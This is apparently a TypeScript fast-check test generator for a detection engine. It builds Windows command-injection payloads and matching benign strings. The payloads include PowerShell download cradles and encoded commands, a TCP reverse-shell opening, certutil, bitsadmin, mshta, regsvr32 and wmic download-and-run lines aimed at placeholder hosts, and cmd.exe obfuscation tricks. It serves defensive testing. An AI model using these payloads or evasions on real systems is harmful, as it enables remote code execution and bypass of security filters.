// Windows command injection as post-exploitation tools and scanners shape it: a separator
// (`&`, `&&`, `|`, `||`, a newline) after the original value, then cmd.exe (`cmd /c`, `cmd.exe /k`,
// `%COMSPEC% /c`, `%SystemRoot%\System32\cmd.exe`), PowerShell (`powershell`/`pwsh` with
// -nop/-w hidden/-ep bypass and -c, -enc/-e/-EncodedCommand of UTF-16LE base64, IEX download
// cradles) or a LOLBin (certutil, bitsadmin, mshta, rundll32, regsvr32, wmic), with the evasions
// cmd.exe undoes (carets, doubled quotes, case, `%VAR:~n,m%` substrings, commas and semicolons as blanks).
import fc from "fast-check";
import type { Req } from "../engine.js";
import { place, type Position } from "./positions.js";
import { rng, type R } from "./rng.js";

const pickR = <T>(r: R, xs: readonly T[]): T => xs[r(xs.length)];
const word = (r: R, n = 5) => Array.from({ length: n }, () => String.fromCharCode(0x61 + r(26))).join("");
const ip = (r: R) => `198.51.100.${1 + r(250)}`;
const url = (r: R) => `http://${pickR(r, [ip(r), word(r) + ".example"])}${r(2) ? ":" + (8000 + r(100)) : ""}/${word(r, 3)}${pickR(r, [".ps1", ".exe", ".hta", ".txt", ""])}`;

/** A short command the payload runs. */
const INNER = (r: R) => pickR(r, ["whoami", "ipconfig /all", "net user", "type C:\\Windows\\win.ini", "dir C:\\", "hostname", "systeminfo", "tasklist", `ping -n ${1 + r(9)} ${ip(r)}`, `nslookup ${word(r)}.oast.example`]);

const psB64 = (s: string) => Buffer.from(s, "utf16le").toString("base64");
const PS_FLAGS = (r: R) => [pickR(r, ["", "-nop ", "-NoP ", "-NoProfile "]), pickR(r, ["", "-w hidden ", "-W Hidden ", "-WindowStyle Hidden "]), pickR(r, ["", "-ep bypass ", "-ExecutionPolicy Bypass ", "-exec bypass "]), pickR(r, ["", "-NonI ", "-sta "])].join("");
const PS_SCRIPT = (r: R) => pickR(r, [
  `IEX(New-Object Net.WebClient).DownloadString('${url(r)}')`,
  `iex (iwr '${url(r)}' -UseBasicParsing).Content`,
  `Invoke-Expression (Invoke-WebRequest -Uri ${url(r)})`,
  `Start-Process ${pickR(r, ["cmd.exe", "calc.exe", "notepad"])}`,
  `Get-ChildItem Env:`,
  `[System.Net.Dns]::GetHostAddresses('${word(r)}.oast.example')`,
  `Start-Sleep -s ${1 + r(9)}`,
  `$c=New-Object System.Net.Sockets.TCPClient('${ip(r)}',${4000 + r(1000)})`,
]);

const PAYLOAD: ((r: R) => string)[] = [
  (r) => `${pickR(r, ["cmd", "cmd.exe", "CMD", "%COMSPEC%", "%ComSpec%", "C:\\Windows\\System32\\cmd.exe", "%SystemRoot%\\System32\\cmd.exe", "%WINDIR%\\system32\\cmd"])} ${pickR(r, ["/c", "/C", "/k", "/q /c", "/v:on /c"])} ${INNER(r)}`,
  (r) => `${pickR(r, ["powershell", "powershell.exe", "PowerShell", "pwsh", "%SystemRoot%\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"])} ${PS_FLAGS(r)}${pickR(r, ["-c", "-C", "-Command", "-command"])} "${PS_SCRIPT(r)}"`,
  (r) => `${pickR(r, ["powershell", "powershell.exe", "pwsh"])} ${PS_FLAGS(r)}${pickR(r, ["-enc", "-e", "-EncodedCommand", "-ec", "-en"])} ${psB64(PS_SCRIPT(r))}`,
  (r) => pickR(r, [
    `certutil ${pickR(r, ["-urlcache -split -f", "-urlcache -f", "-verifyctl -f -split"])} ${url(r)} ${pickR(r, ["%TEMP%\\", "C:\\Users\\Public\\", ""])}${word(r)}.exe`,
    `bitsadmin /transfer ${word(r)} /download /priority high ${url(r)} C:\\Users\\Public\\${word(r)}.exe`,
    `mshta ${pickR(r, [url(r), "vbscript:Execute(\"CreateObject(\"\"WScript.Shell\"\").Run \"\"calc\"\"\")(window.close)", "javascript:a=GetObject('script:" + url(r) + "').Exec();close();"])}`,
    `rundll32.exe ${pickR(r, ["javascript:\"\\..\\mshtml,RunHTMLApplication \";alert(1)", "url.dll,FileProtocolHandler calc.exe", "shell32.dll,ShellExec_RunDLL calc.exe"])}`,
    `regsvr32 /s /n /u /i:${url(r)} scrobj.dll`,
    `wmic process call create "${INNER(r)}"`,
    `wmic /node:${ip(r)} process call create "cmd /c ${INNER(r)}"`,
  ]),
];

/** cmd.exe's own evasions on the words of the line. */
function evade(r: R, s: string): string {
  switch (r(6)) {
    case 0: return s.replace(/\b(cmd|powershell|pwsh|whoami|certutil|bitsadmin|mshta|wmic|ipconfig|hostname)\b/gi, (w) => w.split("").join("^"));
    case 1: return s.replace(/\b(whoami|powershell|certutil|hostname|systeminfo)\b/gi, (w) => w.slice(0, 2) + "\"\"" + w.slice(2));
    case 2: return [...s].map((c) => (r(2) ? c.toUpperCase() : c.toLowerCase())).join("");
    case 3: return s.replace(/^cmd(\.exe)? /i, "%COMSPEC:~0,1%%COMSPEC:~1,20% ").replace(/ \/c /i, ",/c,");
    default: return s;
  }
}

const SEPARATORS = ["&", "&&", "|", "||", "\n", "\r\n", " & ", "%0a"];

export const winAttack: fc.Arbitrary<{ value: string; where: Position; req: Req }> = fc.nat().map((seed) => {
  const r = rng(seed);
  const body = evade(r, pickR(r, PAYLOAD)(r));
  const where = pickR(r, ["query", "form", "json", "cookie", "header"] as Position[]);
  // (a header value holds no line break: there the separator is one of cmd's operators)
  const sep = pickR(r, where === "header" ? SEPARATORS.filter((x) => !/[\r\n%]/.test(x)) : SEPARATORS);
  const value = `${pickR(r, ["127.0.0.1", "x", "report.pdf", "1", ""])}${sep === "%0a" ? "\n" : sep}${body}`;
  return { value, where, req: place(value, where, pickR(r, [0, 1, 2, 4, 5, 8, 11]), r(4) === 0) };
});

/** Windows words used honestly: paths, docs, product names. */
export const winBenign: fc.Arbitrary<string> = fc.constantFrom(
  "C:\\Users\\jane\\Documents\\report.docx", "Press Win+R, type cmd and press Enter", "PowerShell 7.4 release notes", "the certutil man page", "Rock & Roll | Live",
  "%APPDATA% holds settings", "use -enc for encoding in ffmpeg", "Q&A: how do I run a .bat file?", "net user guide (pdf)", "the new shell is pwsh",
);
